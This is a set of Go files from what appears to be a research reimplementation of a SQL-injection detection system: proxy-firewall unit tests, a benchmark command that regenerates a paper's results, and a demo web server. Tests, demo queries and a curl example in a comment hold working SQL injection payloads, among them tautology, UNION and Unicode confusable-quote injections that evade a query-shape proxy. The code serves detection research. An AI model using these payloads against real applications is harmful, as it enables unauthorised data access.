		"INSERT INTO tickets (id, reservID, creditCard) VALUES (1, 'ID34FG', 1234)",
	} {
		if _, err := db.Exec(q); err != nil {
			t.Fatal(err)
		}
	}
	return db
}

func TestNormalize(t *testing.T) {
	tests := []struct{ in, want string }{
		{
			"SELECT * FROM t WHERE a = 'x' AND b = 42",
			"select * from t where a = ?s and b = ?n",
		},
		{
			"SELECT  *\nFROM t",
			"select * from t",
		},
		{
			"SELECT 1 -- comment",
			"select ?n",
		},
		{
			"SELECT /* hint */ 1",
			"select ?n",
		},
		{
			`SELECT 'it''s' , 'a\'b'`,
			"select ?s , ?s",
		},
		{
			"SELECT 3.14",
			"select ?n",
		},
	}
	for _, tt := range tests {
		if got := Normalize(tt.in); got != tt.want {
			t.Errorf("Normalize(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestNormalizeConfusableStaysInLiteral is the proxy's blind spot: the
// confusable quote is just bytes inside the literal, so the attacked and
// benign queries share a shape at the proxy.
func TestNormalizeConfusableStaysInLiteral(t *testing.T) {
	benign := Normalize("SELECT * FROM t WHERE a = 'ID34FG' AND b = 1")
	attacked := Normalize("SELECT * FROM t WHERE a = 'IDʼ OR ʼ1ʼ=ʼ1' AND b = 1")
	if benign != attacked {
		t.Errorf("shapes differ (%q vs %q) — the modelled flaw requires them equal",
			benign, attacked)
	}
}

func TestLearningThenEnforcing(t *testing.T) {
	db := newDB(t)
	fw := New(db)
	// Learn one query shape.
	if _, err := fw.Exec("SELECT reservID FROM tickets WHERE id = 1"); err != nil {
		t.Fatal(err)
	}
	if fw.PatternCount() != 1 {
		t.Fatalf("patterns = %d", fw.PatternCount())
	}
	fw.SetMode(ModeEnforcing)

	// Same shape, new data: allowed.
	if _, err := fw.Exec("SELECT reservID FROM tickets WHERE id = 2"); err != nil {
		t.Errorf("same-shape query blocked: %v", err)
	}
	// Classic quote injection changes the shape: blocked.
	_, err := fw.Exec("SELECT reservID FROM tickets WHERE id = 1 OR '1'='1'")
	if !errors.Is(err, ErrBlockedByProxy) {
		t.Errorf("err = %v, want ErrBlockedByProxy", err)
	}
	passed, blocked := fw.Counters()
	if passed != 2 || blocked != 1 {
		t.Errorf("counters = %d/%d, want 2/1", passed, blocked)
	}
}

// TestProxyMissesSemanticMismatch is the baseline's headline false
// negative: the confusable payload rides inside the literal, the shape
// matches, the proxy forwards — and the DBMS then decodes it into an
// injection the proxy never saw.
func TestProxyMissesSemanticMismatch(t *testing.T) {
	db := newDB(t)
	fw := New(db)
	if _, err := fw.Exec("SELECT creditCard FROM tickets WHERE reservID = 'ID34FG'"); err != nil {
		t.Fatal(err)
	}
	fw.SetMode(ModeEnforcing)

	res, err := fw.Exec("SELECT creditCard FROM tickets WHERE reservID = 'xʼ OR ʼ1ʼ=ʼ1'")
	if err != nil {
		t.Fatalf("the modelled flaw requires the proxy to forward: %v", err)
	}
	// The forwarded query executed as a tautology: data leaked.
	if len(res.Rows) == 0 {
		t.Error("tautology did not fire downstream; substrate drifted")
	}
}

func TestRiskScoreBlocksKnownShapeAttack(t *testing.T) {
	db := newDB(t)
	fw := New(db)
	// Adversarial training: the attacker polluted the training set.
	if _, err := fw.Exec("SELECT reservID FROM tickets WHERE id = 1 UNION SELECT 'x'"); err != nil {
		t.Fatal(err)
	}
	fw.SetMode(ModeEnforcing)
	// Same shape, but the risk heuristics still fire.
	_, err := fw.Exec("SELECT reservID FROM tickets WHERE id = 2 UNION SELECT 'y'")
	if !errors.Is(err, ErrBlockedByProxy) {
		t.Errorf("risky known-shape query should be blocked: %v", err)
	}
}

func TestInspectDoesNotForward(t *testing.T) {
	db := newDB(t)
	fw := New(db)
	before := db.Stats().Executed
	d := fw.Inspect("SELECT * FROM tickets")
	if d.Blocked {
		t.Errorf("learning mode must not block: %+v", d)
	}
	if db.Stats().Executed != before {
		t.Error("Inspect must not execute the query")
	}
}
