package main

import (
	"fmt"
	"strconv"
	"strings"
	"time"

	"github.com/septic-db/septic/internal/benchlab"
	"github.com/septic-db/septic/internal/benchlab/wirebench"
)

// runWire replays one application's benign workload trace over the wire
// protocol at a sweep of pipeline depths and prints a sync-versus-
// pipelined throughput table. Depth 1 is the synchronous v1 JSON
// baseline; every deeper series negotiates v2 binary frames and keeps
// the window full.
func runWire(app, cfgName, depthList string, clients, loops, workers, maxInFlight int) error {
	spec, err := wireSpec(app)
	if err != nil {
		return err
	}
	cfg, err := wireConfig(cfgName)
	if err != nil {
		return err
	}
	depths, err := parseDepths(depthList)
	if err != nil {
		return err
	}

	fmt.Printf("wire replay: %s under %s, %d client(s) × %d loop(s) per depth\n\n",
		spec.Name, cfg, clients, loops)
	fmt.Printf("  %-6s  %-5s  %10s  %12s  %10s  %8s\n",
		"depth", "proto", "queries", "elapsed", "qps", "speedup")

	var baseline float64
	for _, depth := range depths {
		res, err := wirebench.Run(spec, cfg, wirebench.Params{
			Clients:     clients,
			Depth:       depth,
			Loops:       loops,
			Workers:     workers,
			MaxInFlight: maxInFlight,
		})
		if err != nil {
			return fmt.Errorf("depth %d: %w", depth, err)
		}
		if res.Errors != 0 {
			return fmt.Errorf("depth %d: benign replay produced %d errors", depth, res.Errors)
		}
		qps := res.PerSecond()
		if baseline == 0 {
			baseline = qps
		}
		fmt.Printf("  %-6d  v%-4d  %10d  %12v  %10.0f  %7.2fx\n",
			depth, res.Protocol, res.Queries, res.Elapsed.Round(time.Millisecond), qps, qps/baseline)
	}
	fmt.Println("\nspeedup is relative to the first depth in the sweep.")
	return nil
}

func wireSpec(prefix string) (benchlab.AppSpec, error) {
	for _, spec := range benchlab.PaperSpecs() {
		if spec.Prefix == prefix {
			return spec, nil
		}
	}
	var known []string
	for _, spec := range benchlab.PaperSpecs() {
		known = append(known, spec.Prefix)
	}
	return benchlab.AppSpec{}, fmt.Errorf("unknown app %q (have %s)", prefix, strings.Join(known, ", "))
}

func wireConfig(name string) (benchlab.SepticConfig, error) {
	for _, cfg := range append(benchlab.Configs(), benchlab.ConfigBaseline) {
		if strings.EqualFold(cfg.String(), name) {
			return cfg, nil
		}
	}
	return 0, fmt.Errorf("unknown config %q (base, NN, YN, NY, YY)", name)
}

func parseDepths(list string) ([]int, error) {
	var depths []int
	for _, part := range strings.Split(list, ",") {
		part = strings.TrimSpace(part)
		if part == "" {
			continue
		}
		d, err := strconv.Atoi(part)
		if err != nil || d < 1 {
			return nil, fmt.Errorf("bad depth %q", part)
		}
		depths = append(depths, d)
	}
	if len(depths) == 0 {
		return nil, fmt.Errorf("empty depth list")
	}
	return depths, nil
}
