package main

import (
	"encoding/json"
	"fmt"
	"os"
	"runtime"
	"time"

	"github.com/septic-db/septic/internal/benchlab/overloadbench"
)

// overloadReport is the committed BENCH_overload.json shape.
type overloadReport struct {
	GOOS          string              `json:"goos"`
	GOARCH        string              `json:"goarch"`
	ServiceTimeNS int64               `json:"service_time_ns"`
	Gate          int                 `json:"gate"`
	TargetNS      int64               `json:"target_ns"`
	Clients       int                 `json:"clients"`
	DurationNS    int64               `json:"duration_ns"`
	CapacityQPS   float64             `json:"capacity_qps"`
	Rows          []overloadbench.Row `json:"rows"`
	// P99Ratio compares the admitted p99 at the highest multiplier to
	// the 1× baseline — the brownout claim is that this stays near 1
	// (bounded by the shed target) instead of growing with the backlog.
	P99Ratio float64 `json:"p99_ratio_max_vs_1x"`
}

// runOverload sweeps offered load over the admission-controlled wire
// deployment and prints the shed/latency table; with -json the rows are
// additionally recorded for the committed benchmark ledger.
func runOverload(service time.Duration, gate int, target time.Duration,
	clients int, duration time.Duration, jsonPath string) error {
	p := overloadbench.Params{
		ServiceTime: service,
		Gate:        gate,
		Target:      target,
		Clients:     clients,
		Duration:    duration,
	}
	rows, err := overloadbench.Run(p)
	if err != nil {
		return err
	}
	fmt.Printf("overload sweep: service %v × gate %d (capacity %.0f q/s), target %v, %d clients, %v per point\n\n",
		service, gate, p.CapacityQPS(), target, clients, duration)
	fmt.Printf("  %-5s %12s %10s %10s %10s %8s %12s %12s\n",
		"load", "offered q/s", "sent", "admitted", "shed", "shed%", "p50", "p99")
	for _, r := range rows {
		fmt.Printf("  %-4dx %12.0f %10d %10d %10d %7.1f%% %12v %12v\n",
			r.Multiplier, r.OfferedQPS, r.Sent, r.Admitted, r.Shed,
			100*r.ShedRate(), r.P50.Round(time.Microsecond), r.P99.Round(time.Microsecond))
		if r.Errors > 0 {
			return fmt.Errorf("multiplier %d: %d untyped errors (want only success or typed shed)", r.Multiplier, r.Errors)
		}
	}
	var ratio float64
	if first, last := rows[0], rows[len(rows)-1]; first.P99 > 0 {
		ratio = float64(last.P99) / float64(first.P99)
		fmt.Printf("\nadmitted p99 at %d× is %.2f× the 1× baseline (acceptance: ≤ 2×)\n",
			last.Multiplier, ratio)
	}

	if jsonPath != "" {
		report := overloadReport{
			GOOS: runtime.GOOS, GOARCH: runtime.GOARCH,
			ServiceTimeNS: service.Nanoseconds(),
			Gate:          gate,
			TargetNS:      target.Nanoseconds(),
			Clients:       clients,
			DurationNS:    duration.Nanoseconds(),
			CapacityQPS:   p.CapacityQPS(),
			Rows:          rows,
			P99Ratio:      ratio,
		}
		data, err := json.MarshalIndent(report, "", "  ")
		if err != nil {
			return err
		}
		if err := os.WriteFile(jsonPath, append(data, '\n'), 0o644); err != nil {
			return err
		}
		fmt.Printf("wrote %s\n", jsonPath)
	}
	return nil
}
