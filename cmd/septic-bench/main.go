// Command septic-bench regenerates the paper's quantitative results:
//
//	septic-bench fig5      — the §II-F performance study (Fig. 5):
//	                         average latency overhead of the NN/YN/NY/YY
//	                         SEPTIC configurations on the three
//	                         applications, replayed BenchLab-style.
//	septic-bench accuracy  — the §IV detection comparison (phases A–E):
//	                         per-mechanism detection and false-positive
//	                         table over the attack corpus.
//	septic-bench sweep     — extra scalability sweep: overhead vs number
//	                         of concurrent browsers (the shape of the
//	                         paper's 1→20-browser ramp).
//	septic-bench parallel  — parallel replay: aggregate throughput as
//	                         client machines are added (1→8), baseline
//	                         vs the YY configuration, demonstrating the
//	                         contention-free hot path under load.
//	septic-bench table1    — Table I regenerated behaviourally: which
//	                         actions each operation mode takes.
//	septic-bench durability — crash-safety overhead: per-update training
//	                         latency with the write-ahead log off and at
//	                         each fsync policy (never/interval/always),
//	                         plus the detection-path latency showing
//	                         durability stays off the read path.
//	septic-bench wire      — wire-protocol replay: the benign workload
//	                         trace of one application replayed over a
//	                         loopback wire session, synchronous v1 JSON
//	                         versus pipelined v2 binary frames at a
//	                         sweep of pipeline depths.
//	septic-bench overload  — adaptive overload control: a loopback
//	                         deployment with a known service time and
//	                         execution capacity driven at 1×/2×/4×
//	                         capacity; reports shed rate and admitted
//	                         p50/p99 per offered load (-json records
//	                         the rows for the committed ledger).
//	septic-bench repl      — replication lag: a read replica follows a
//	                         training primary over loopback while
//	                         serving the Address Book workload in
//	                         detection mode; reports the lag-over-time
//	                         table and the catch-up time to lag 0.
package main

import (
	"flag"
	"fmt"
	"os"
	"runtime"
	"sort"
	"time"

	"github.com/septic-db/septic/internal/benchlab"
	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/demo"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/obs"
	"github.com/septic-db/septic/internal/repllab"
	"github.com/septic-db/septic/internal/waf"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "septic-bench:", err)
		os.Exit(1)
	}
}

func run() error {
	defaults := benchlab.DefaultParams()
	fig5Flags := flag.NewFlagSet("fig5", flag.ExitOnError)
	machines := fig5Flags.Int("machines", defaults.Machines, "client machines (sequential by default: overhead is a ratio, not a load test)")
	browsers := fig5Flags.Int("browsers", defaults.BrowsersPerMachine, "browsers per machine")
	loops := fig5Flags.Int("loops", defaults.Loops, "workload replays per browser")
	rounds := fig5Flags.Int("rounds", 7, "interleaved measurement rounds (best mean kept)")
	webtier := fig5Flags.Int("webtier", benchlab.DefaultWebTierWork,
		"per-request web-tier work (SHA-256 rounds) standing in for Apache+PHP; 0 = bare DBMS")
	overHTTP := fig5Flags.Bool("http", false,
		"serve the applications over real loopback HTTP instead of the synthetic web tier")
	fig5Obs := fig5Flags.Bool("obs", false,
		"instrument the replayed deployments and print the pipeline stage-latency percentiles")

	sweepFlags := flag.NewFlagSet("sweep", flag.ExitOnError)
	sweepLoops := sweepFlags.Int("loops", 3, "workload replays per browser")

	parFlags := flag.NewFlagSet("parallel", flag.ExitOnError)
	parBrowsers := parFlags.Int("browsers", 2, "browsers per machine")
	parLoops := parFlags.Int("loops", 20, "workload replays per browser")
	parMax := parFlags.Int("maxmachines", 8, "largest machine count (doubling from 1)")
	parDomains := parFlags.Int("domains", 0,
		"replay N applications concurrently, each behind its own protection domain, and report per-domain hit-rate and blocked counts (0 = single-app scaling run)")
	parObs := parFlags.Bool("obs", false,
		"instrument the replayed deployments and print the pipeline stage-latency percentiles")

	accFlags := flag.NewFlagSet("accuracy", flag.ExitOnError)
	paranoia := accFlags.Int("paranoia", 1, "WAF paranoia level (1 or 2)")

	durFlags := flag.NewFlagSet("durability", flag.ExitOnError)
	durUpdates := durFlags.Int("updates", 2000, "distinct training updates per policy")
	durRounds := durFlags.Int("rounds", 3, "measurement rounds (best training latency kept)")

	wireFlags := flag.NewFlagSet("wire", flag.ExitOnError)
	wireApp := wireFlags.String("app", "ab", "application prefix to replay (ab, rb, cms, wm)")
	wireCfg := wireFlags.String("config", "YY", "SEPTIC configuration (base, NN, YN, NY, YY)")
	wireDepths := wireFlags.String("depths", "1,4,16", "comma-separated pipeline depths (1 = synchronous v1 baseline)")
	wireClients := wireFlags.Int("clients", 1, "concurrent wire connections")
	wireLoops := wireFlags.Int("loops", 50, "trace replays per connection")
	wireWorkers := wireFlags.Int("workers", 0, "server per-connection worker pool (0 = default)")
	wireInFlight := wireFlags.Int("max-in-flight", 0, "server per-connection in-flight bound (0 = default)")

	ovlFlags := flag.NewFlagSet("overload", flag.ExitOnError)
	ovlService := ovlFlags.Duration("service", 2*time.Millisecond, "injected executor latency per query")
	ovlGate := ovlFlags.Int("gate", 4, "server concurrent-execution capacity")
	ovlTarget := ovlFlags.Duration("target", 5*time.Millisecond, "admission queueing-delay target")
	ovlClients := ovlFlags.Int("clients", 64, "concurrent wire connections generating load")
	ovlDuration := ovlFlags.Duration("duration", 2*time.Second, "measured window per offered-load point")
	ovlJSON := ovlFlags.String("json", "", "record the sweep into this JSON file (e.g. BENCH_overload.json)")

	replFlags := flag.NewFlagSet("repl", flag.ExitOnError)
	replUpdates := replFlags.Int("updates", 5000, "distinct training updates on the primary during the measured window")
	replLoops := replFlags.Int("loops", 200, "Address Book workload replays on the replica while the stream applies")

	if len(os.Args) < 2 {
		return fmt.Errorf("usage: septic-bench fig5|accuracy|sweep|parallel|table1|durability|wire|overload|repl [flags]")
	}
	switch os.Args[1] {
	case "table1":
		return runTable1()
	case "fig5":
		if err := fig5Flags.Parse(os.Args[2:]); err != nil {
			return err
		}
		p := benchlab.Params{
			Machines: *machines, BrowsersPerMachine: *browsers, Loops: *loops,
			WebTierWork: *webtier, HTTP: *overHTTP,
		}
		if *overHTTP {
			p.WebTierWork = 0 // the real network path replaces the stand-in
		}
		if *fig5Obs {
			p.Obs = obs.NewHub(obs.DefaultRingCapacity)
		}
		if err := runFig5(p, *rounds); err != nil {
			return err
		}
		printStageTable(p.Obs)
		return nil
	case "accuracy":
		if err := accFlags.Parse(os.Args[2:]); err != nil {
			return err
		}
		return runAccuracy(*paranoia)
	case "sweep":
		if err := sweepFlags.Parse(os.Args[2:]); err != nil {
			return err
		}
		return runSweep(*sweepLoops)
	case "parallel":
		if err := parFlags.Parse(os.Args[2:]); err != nil {
			return err
		}
		var hub *obs.Hub
		if *parObs {
			hub = obs.NewHub(obs.DefaultRingCapacity)
		}
		if *parDomains > 0 {
			if err := runDomains(*parDomains, *parBrowsers, *parLoops, *parMax, hub); err != nil {
				return err
			}
		} else if err := runParallel(*parBrowsers, *parLoops, *parMax, hub); err != nil {
			return err
		}
		printStageTable(hub)
		return nil
	case "durability":
		if err := durFlags.Parse(os.Args[2:]); err != nil {
			return err
		}
		return runDurability(*durUpdates, *durRounds)
	case "wire":
		if err := wireFlags.Parse(os.Args[2:]); err != nil {
			return err
		}
		return runWire(*wireApp, *wireCfg, *wireDepths, *wireClients, *wireLoops, *wireWorkers, *wireInFlight)
	case "overload":
		if err := ovlFlags.Parse(os.Args[2:]); err != nil {
			return err
		}
		return runOverload(*ovlService, *ovlGate, *ovlTarget, *ovlClients, *ovlDuration, *ovlJSON)
	case "repl":
		if err := replFlags.Parse(os.Args[2:]); err != nil {
			return err
		}
		return runRepl(*replUpdates, *replLoops)
	default:
		return fmt.Errorf("unknown subcommand %q", os.Args[1])
	}
}

func runFig5(p benchlab.Params, rounds int) error {
	fmt.Printf("replaying workloads: %d machines × %d browsers, %d loops, %d rounds\n\n",
		p.Machines, p.BrowsersPerMachine, p.Loops, rounds)
	var all [][]benchlab.Overhead
	for _, spec := range benchlab.PaperSpecs() {
		series, err := benchlab.Series(spec, p, rounds)
		if err != nil {
			return err
		}
		all = append(all, series)
		fmt.Printf("  %s done (baseline mean %v)\n", spec.Name, series[0].Base)
	}
	fmt.Println()
	fmt.Print(benchlab.FormatFig5(all))
	fmt.Println("\npaper (Fig. 5): overhead ranges 0.5% (NN) to 2.2% (YY); YN ≈ 0.8%;")
	fmt.Println("similar across the three applications. Compare shapes, not absolutes.")
	return nil
}

func runAccuracy(paranoia int) error {
	var opts []demo.RunOption
	if paranoia >= 2 {
		opts = append(opts, demo.WithWAFOptions(waf.WithParanoia(waf.Paranoia2)))
		fmt.Println("WAF at paranoia level 2 (aggressive PL2 rules active)")
	}
	report, err := demo.Run(opts...)
	if err != nil {
		return err
	}
	fmt.Print(report.Summary())
	return nil
}

// runTable1 regenerates Table I behaviourally: for each operation mode
// it runs a training query, an attack and a benign query against a
// fresh deployment and reports which actions SEPTIC took.
func runTable1() error {
	const (
		benign = "SELECT pass FROM users WHERE name = 'ann'"
		attack = "SELECT pass FROM users WHERE name = 'ann' OR 1=1-- '"
	)
	fmt.Println("Table I — operation modes and actions taken by SEPTIC")
	fmt.Printf("%-12s %-8s %-12s %-12s %-10s %-10s\n",
		"mode", "learns", "logs attack", "drops query", "execs atk", "execs benign")
	for _, mode := range []core.Mode{core.ModeTraining, core.ModeDetection, core.ModePrevention} {
		guard := core.New(core.Config{Mode: core.ModeTraining})
		db := engine.New(engine.WithQueryHook(guard))
		for _, q := range []string{
			"CREATE TABLE users (name TEXT, pass TEXT)",
			"INSERT INTO users (name, pass) VALUES ('ann', 'pw')",
			benign,
		} {
			if _, err := db.Exec(q); err != nil {
				return err
			}
		}
		modelsBefore := guard.Store().ModelCount()
		guard.SetConfig(core.Config{
			Mode: mode, DetectSQLI: true, DetectStored: true, IncrementalLearning: true,
		})

		_, atkErr := db.Exec(attack)
		_, benignErr := db.Exec(benign)
		if _, err := db.Exec("SELECT name FROM users WHERE pass = 'pw'"); err != nil {
			return fmt.Errorf("new-shape query in %s: %w", mode, err)
		}
		learned := guard.Store().ModelCount() > modelsBefore
		attacksLogged := len(guard.Logger().Attacks()) > 0
		fmt.Printf("%-12s %-8s %-12s %-12s %-10s %-10s\n",
			mode,
			mark(learned),
			mark(attacksLogged),
			mark(atkErr != nil),
			mark(atkErr == nil),
			mark(benignErr == nil))
	}
	fmt.Println("\npaper: training learns and executes; detection logs and executes;")
	fmt.Println("prevention logs and drops. Benign queries execute in every mode.")
	return nil
}

func mark(b bool) string {
	if b {
		return "x"
	}
	return ""
}

// printStageTable renders the stage-latency percentiles accumulated in
// hub over the whole run (all deployments and configurations pooled).
// No-op when observability was not requested.
func printStageTable(hub *obs.Hub) {
	if hub == nil {
		return
	}
	snap := hub.Metrics.Snapshot()
	names := make([]string, 0, len(snap.Histograms))
	for name := range snap.Histograms {
		names = append(names, name)
	}
	sort.Strings(names)
	fmt.Println("\npipeline stage latencies (pooled over the run)")
	fmt.Printf("%-30s %10s %10s %10s %10s %10s\n",
		"stage", "count", "p50", "p95", "p99", "max")
	for _, name := range names {
		h := snap.Histograms[name]
		fmt.Printf("%-30s %10d %10v %10v %10v %10v\n",
			name, h.Count,
			time.Duration(h.P50NS), time.Duration(h.P95NS),
			time.Duration(h.P99NS), time.Duration(h.MaxNS))
	}
}

// runParallel replays the largest workload from a growing number of
// client machines and reports aggregate throughput, baseline vs YY. On
// a multi-core host both series should scale with machines until cores
// saturate; the YY/base ratio staying flat shows SEPTIC adds no
// contention of its own.
func runParallel(browsersPer, loops, maxMachines int, hub *obs.Hub) error {
	if browsersPer < 1 || loops < 1 || maxMachines < 1 {
		return fmt.Errorf("parallel: -browsers, -loops and -maxmachines must all be >= 1")
	}
	spec := benchlab.PaperSpecs()[2] // ZeroCMS: the largest workload
	fmt.Printf("parallel replay — %s workload, %d browsers/machine, %d loops (GOMAXPROCS=%d)\n\n",
		spec.Name, browsersPer, loops, runtime.GOMAXPROCS(0))
	fmt.Printf("%10s %14s %14s %10s %10s\n", "machines", "base req/s", "YY req/s", "YY/base", "cache hit")
	for n := 1; n <= maxMachines; n *= 2 {
		p := benchlab.Params{Machines: n, BrowsersPerMachine: browsersPer, Loops: loops,
			WebTierWork: benchlab.DefaultWebTierWork, Obs: hub}
		base, err := benchlab.RunParallel(spec, benchlab.ConfigBaseline, p)
		if err != nil {
			return err
		}
		yy, err := benchlab.RunParallel(spec, benchlab.ConfigYY, p)
		if err != nil {
			return err
		}
		if base.Errors > 0 || yy.Errors > 0 {
			return fmt.Errorf("machines=%d: %d/%d request errors", n, base.Errors, yy.Errors)
		}
		fmt.Printf("%10d %14.0f %14.0f %9.2f%% %9.1f%%\n",
			n, base.PerSecond(), yy.PerSecond(), 100*yy.PerSecond()/base.PerSecond(),
			100*yy.CacheHitRate())
	}
	return nil
}

// runDomains replays n applications concurrently against ONE server,
// each behind its own protection domain, and prints the per-domain
// ledger: requests, cache hit-rate, queries seen, attacks blocked and
// models learned never cross domains, which makes the isolation claim
// of the multi-tenant deployment measurable.
func runDomains(n, browsersPer, loops, machines int, hub *obs.Hub) error {
	if browsersPer < 1 || loops < 1 || machines < 1 {
		return fmt.Errorf("parallel: -browsers, -loops and -maxmachines must all be >= 1")
	}
	specs := append(benchlab.PaperSpecs(), benchlab.WaspMonSpec())
	if n > len(specs) {
		return fmt.Errorf("parallel: -domains %d exceeds the %d available applications", n, len(specs))
	}
	specs = specs[:n]
	p := benchlab.Params{Machines: machines, BrowsersPerMachine: browsersPer, Loops: loops,
		WebTierWork: benchlab.DefaultWebTierWork, Obs: hub}
	fmt.Printf("multi-domain replay — %d applications on one server, %d browsers each, %d loops (GOMAXPROCS=%d)\n\n",
		n, machines*browsersPer, loops, runtime.GOMAXPROCS(0))
	res, err := benchlab.RunDomains(specs, p)
	if err != nil {
		return err
	}
	fmt.Printf("%-14s %-10s %10s %8s %10s %10s %10s %8s\n",
		"app", "domain", "requests", "errors", "cache hit", "seen", "blocked", "models")
	for _, d := range res.Domains {
		fmt.Printf("%-14s %-10s %10d %8d %9.1f%% %10d %10d %8d\n",
			d.App, d.Domain, d.Requests, d.Errors, 100*d.CacheHitRate(),
			d.Stats.QueriesSeen, d.Stats.AttacksBlocked, d.Models)
	}
	agg := res.Domains[0].Stats
	for _, d := range res.Domains[1:] {
		agg = aggStats(agg, d.Stats)
	}
	fmt.Printf("\n%d domains, %v elapsed, %d queries total; blocked counts stay per-domain (benign replay: all 0)\n",
		n, res.Elapsed.Round(time.Millisecond), agg.QueriesSeen)
	return nil
}

// aggStats sums two per-domain snapshots for the closing total line.
func aggStats(a, b core.Stats) core.Stats {
	a.QueriesSeen += b.QueriesSeen
	a.AttacksFound += b.AttacksFound
	a.AttacksBlocked += b.AttacksBlocked
	a.ModelsLearned += b.ModelsLearned
	return a
}

func runSweep(loops int) error {
	const rounds = 5
	spec := benchlab.PaperSpecs()[2] // ZeroCMS: the largest workload
	fmt.Printf("overhead (YY vs baseline) as browser count grows — %s workload\n\n", spec.Name)
	fmt.Printf("%10s %14s %14s %10s\n", "browsers", "base mean", "YY mean", "overhead")
	for _, n := range []int{1, 2, 4, 8, 12, 16, 20} {
		p := benchlab.Params{Machines: 1, BrowsersPerMachine: n, Loops: loops,
			WebTierWork: benchlab.DefaultWebTierWork}
		var baseMin, yyMin time.Duration
		for r := 0; r < rounds; r++ {
			base, err := benchlab.Run(spec, benchlab.ConfigBaseline, p)
			if err != nil {
				return err
			}
			yy, err := benchlab.Run(spec, benchlab.ConfigYY, p)
			if err != nil {
				return err
			}
			if m := base.TrimmedMean(10); baseMin == 0 || m < baseMin {
				baseMin = m
			}
			if m := yy.TrimmedMean(10); yyMin == 0 || m < yyMin {
				yyMin = m
			}
		}
		pct := 100 * (float64(yyMin) - float64(baseMin)) / float64(baseMin)
		fmt.Printf("%10d %14v %14v %9.2f%%\n", n, baseMin, yyMin, pct)
	}
	return nil
}

// runDurability measures the crash-safety overhead table: per-update
// training latency at each WAL fsync policy vs the no-WAL baseline.
// Rounds are interleaved per policy inside RunDurability-sized runs; the
// best (minimum-noise) training latency per policy is kept, the way the
// fig5 lane keeps its best round.
func runDurability(updates, rounds int) error {
	fmt.Printf("durability overhead: %d distinct training updates per policy, %d round(s)\n\n",
		updates, rounds)
	best := map[string]benchlab.DurabilityRow{}
	for r := 0; r < rounds; r++ {
		dir, err := os.MkdirTemp("", "septic-durability-")
		if err != nil {
			return err
		}
		rows, err := benchlab.RunDurability(dir, updates)
		os.RemoveAll(dir)
		if err != nil {
			return err
		}
		for _, row := range rows {
			if b, ok := best[row.Policy]; !ok || row.TrainPerUpdate < b.TrainPerUpdate {
				best[row.Policy] = row
			}
		}
	}
	ordered := make([]benchlab.DurabilityRow, 0, len(best))
	for _, p := range benchlab.DurabilityPolicies() {
		ordered = append(ordered, best[p])
	}
	fmt.Print(benchlab.FormatDurability(ordered))
	fmt.Println("\nfsync=always is the no-acknowledged-loss configuration; " +
		"interval bounds the loss window to the flush period at near-never cost.")
	return nil
}

// runRepl runs the replication-lag lane: a primary trains continuously
// while a loopback replica follows its WAL stream and serves the
// Address Book workload in detection mode.
func runRepl(updates, loops int) error {
	if updates < 1 || loops < 1 {
		return fmt.Errorf("repl: -updates and -loops must both be >= 1")
	}
	fmt.Printf("replication lag: %d training updates on the primary, %d workload replays on the replica\n\n",
		updates, loops)
	dir, err := os.MkdirTemp("", "septic-repl-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	res, err := repllab.RunRepl(dir, updates, loops)
	if err != nil {
		return err
	}
	fmt.Print(repllab.FormatRepl(res))
	if !res.Converged {
		return fmt.Errorf("replica did not converge to lag 0 within the deadline")
	}
	return nil
}
