// Command waspmon-server serves the §III demonstration application over
// real HTTP so the attacks can be driven from a browser or curl, with
// the protection stack selected on the command line:
//
//	waspmon-server -protect none    # phase A: sanitization only
//	waspmon-server -protect waf     # phase B: ModSecurity in front
//	waspmon-server -protect septic  # phase D: SEPTIC inside the DBMS
//	waspmon-server -protect both    # defence in depth
//
// Try it:
//
//	curl 'localhost:8080/devices'
//	curl 'localhost:8080/device/view?name=nothing%CA%BC%20OR%20%CA%BC1%CA%BC=%CA%BC1'
package main

import (
	"flag"
	"fmt"
	"net/http"
	"os"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/trainer"
	"github.com/septic-db/septic/internal/waf"
	"github.com/septic-db/septic/internal/webapp"
	"github.com/septic-db/septic/internal/webapp/apps"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "waspmon-server:", err)
		os.Exit(1)
	}
}

func run() error {
	addr := flag.String("addr", "127.0.0.1:8080", "listen address")
	protect := flag.String("protect", "septic", "protection stack: none, waf, septic or both")
	flag.Parse()

	useWAF := *protect == "waf" || *protect == "both"
	useSeptic := *protect == "septic" || *protect == "both"
	if !useWAF && !useSeptic && *protect != "none" {
		return fmt.Errorf("unknown -protect value %q", *protect)
	}

	var guard *core.Septic
	var db *engine.DB
	if useSeptic {
		guard = core.New(core.Config{Mode: core.ModeTraining},
			core.WithLogger(core.NewLogger(core.WithStream(os.Stdout))))
		db = engine.New(engine.WithQueryHook(guard))
	} else {
		db = engine.New()
	}
	for _, q := range apps.WaspMonSchema() {
		if _, err := db.Exec(q); err != nil {
			return fmt.Errorf("schema: %w", err)
		}
	}
	app := apps.NewWaspMon(db)

	if useSeptic {
		report, err := trainer.Crawl(app, apps.WaspMonForms(), 3, 1)
		if err != nil {
			return fmt.Errorf("training crawl: %w", err)
		}
		guard.SetConfig(core.Config{
			Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true,
			IncrementalLearning: false,
		})
		fmt.Printf("waspmon-server: SEPTIC trained on %d requests (%d models), prevention on\n",
			report.Requests, guard.Store().Len())
	}

	handler := webapp.HTTPHandler(app)
	if useWAF {
		w := waf.New()
		handler = webapp.WAFMiddleware(func(req webapp.Request) bool {
			return w.Check(req).Blocked
		}, handler)
		fmt.Println("waspmon-server: ModSecurity-style WAF enabled (mini CRS, paranoia 1)")
	}

	fmt.Printf("waspmon-server: serving WaspMon on http://%s (protection: %s)\n", *addr, *protect)
	return http.ListenAndServe(*addr, handler)
}
