// Command septic-replay exercises a running septicd from the outside,
// playing the role of the demo's web-application VM: it deploys the
// PHP Address Book pages over the wire protocol, replays the benign
// workload (which the server learns incrementally on first sight), and
// then fires a battery of injection attempts — one per detector — so
// the observability endpoints have something to show.
//
// Usage:
//
//	septic-replay [-addr 127.0.0.1:3306] [-rounds 3] [-attacks]
//
// Typical session (see `make obs-demo`):
//
//	septicd -addr :3306 -obs-addr :9188 &
//	septic-replay -attacks
//	curl localhost:9188/metrics
